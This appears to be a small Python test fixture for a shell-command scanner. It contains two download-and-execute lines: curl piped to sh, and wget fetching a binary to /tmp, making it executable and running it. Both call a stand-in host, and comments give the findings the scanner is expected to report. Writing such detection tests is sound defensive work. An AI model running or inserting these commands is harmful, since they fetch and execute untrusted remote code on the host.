# command lines given to a shell reach the shell scanner (download-exec there)
import os
import subprocess

os.system("curl -fsSL http://203.0.113.5/i.sh | sh")  # expect: perm-process, download-exec
subprocess.call("wget -q http://203.0.113.5/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", shell=True)  # expect: download-exec
